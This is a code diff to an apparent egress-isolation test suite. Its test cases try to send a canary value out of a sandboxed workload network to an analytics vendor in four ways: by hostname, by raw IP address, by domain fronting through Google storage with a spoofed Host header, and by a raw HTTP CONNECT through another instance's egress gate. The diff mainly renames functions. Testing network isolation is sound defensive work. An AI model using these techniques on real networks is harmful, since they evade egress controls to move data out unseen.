@@ -1,18 +1,18 @@
+/** Break-ins that leave the network of the workloads. */
 import { publicAddressOf } from "../../local/front/network/addresses";
-import type { BreakIn, Scene } from "./breakIn";
+import type { AttackContext, BreakIn } from "./breakIn";
 import { judge, type Verdict } from "./verdict";
-import { parseAnswer, shoot, straightTo } from "./wire";
+import { parseAnswer, sendRequest, straightTo } from "./wire";
 
 const vendorHost = "api.mixpanel.com";
 
-/** Ways out of the workload network. */
 export const networkBreakIns: readonly BreakIn[] = [
   {
     id: "vendor-by-name",
     title: "sends analytics straight to the vendor, by name",
     expected: "DNS response policy",
     attempt: async ({ attacker, canary }) =>
-      judge(await shoot(attacker.foothold, { url: `https://${vendorHost}/track?data=${canary}` })),
+      judge(await sendRequest(attacker.foothold, { url: `https://${vendorHost}/track?data=${canary}` })),
   },
   {
     id: "vendor-by-address",
@@ -20,7 +20,7 @@ export const networkBreakIns: readonly BreakIn[] = [
     expected: "VPC route",
     attempt: async ({ attacker, canary }) =>
       judge(
-        await shoot(attacker.foothold, {
+        await sendRequest(attacker.foothold, {
           url: `https://${publicAddressOf(vendorHost)}/track?data=${canary}`,
           host: vendorHost,
         }),
@@ -31,14 +31,14 @@ export const networkBreakIns: readonly BreakIn[] = [
     title: "asks Google's address for the vendor's host",
     expected: "front door",
     attempt: async ({ attacker, canary }) => {
-      const hit = await shoot(attacker.foothold, {
+      const result = await sendRequest(attacker.foothold, {
         url: `https://storage.googleapis.com/track?data=${canary}`,
         host: vendorHost,
       });
       // Google serves no host that isn't its own: there is nothing behind it to get to.
-      return "impact" in hit && hit.impact.status === 404
+      return "response" in result && result.response.status === 404
         ? { denied: true, wall: "front door", because: "Google's address serves Google's hosts only" }
-        : judge(hit);
+        : judge(result);
     },
   },
   {
@@ -62,11 +62,11 @@ export const networkBreakIns: readonly BreakIn[] = [
     title: "leaves by the other's egress network, from outside",
     expected: "instance boundary",
     possible: () => process.platform === "linux",
-    attempt: async (scene) => throughGate(scene),
+    attempt: async (context) => throughEgressNetwork(context),
   },
 ];
 
-async function throughGate({ running, victim }: Scene): Promise<Verdict> {
+async function throughEgressNetwork({ running, victim }: AttackContext): Promise<Verdict> {
   const { networkGate } = running.networkOf(victim.proxy.name);
   const bytes = Buffer.from(`CONNECT ${vendorHost}:443 HTTP/1.1\r\nHost: ${vendorHost}:443\r\n\r\n`);
   const { text = "" } = await straightTo(networkGate).send({ host: "", port: networkGate, secure: false, bytes });
